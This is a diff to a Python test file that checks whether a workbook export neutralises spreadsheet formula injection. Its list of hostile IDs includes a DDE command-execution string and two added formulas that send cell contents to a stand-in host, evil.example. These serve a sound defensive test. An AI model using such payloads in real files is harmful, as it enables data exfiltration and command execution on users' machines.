@@ -18,6 +18,8 @@ HOSTILE_IDS = [
     "-3+cmd|' /C calc'!A0",
     "@SUM(A1:A9)",
     "=1+2",
+    '=SUM(1,1)+HYPERLINK("http://evil.example/?x="&B3,"D01")',
+    '=SUM(A1:A2)*0+WEBSERVICE("http://evil.example/")',
 ]
 HOSTILE_COLUMNS = {"parents_low_education": "=1+2", "single_parent": "@single", "name": "-name"}
 
@@ -45,13 +47,17 @@ def hostile_run(tmp_path_factory):
 def test_no_cell_of_the_workbook_is_a_formula(hostile_run):
     book = openpyxl.load_workbook(hostile_run / "allocation_keys.xlsx")
     formulas = [
-        (ws.title, c.coordinate, c.value)
+        (ws, c)
         for ws in book.worksheets
         for row in ws.iter_rows()
         for c in row
-        if c.data_type == "f" and not str(c.value).upper().startswith("=SUM(")
+        if c.data_type == "f"
     ]
-    assert formulas == []
+    # the only formulas are the writer's own totals: =SUM(<col>2:<col><n>) in the last row
+    assert formulas
+    for ws, c in formulas:
+        assert c.row == ws.max_row, (ws.title, c.coordinate, c.value)
+        assert c.value == f"=SUM({c.column_letter}2:{c.column_letter}{ws.max_row - 1})"
     values = {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row}
     assert set(HOSTILE_IDS) <= values  # the ids themselves are kept, as text
     assert "=1+2" in values
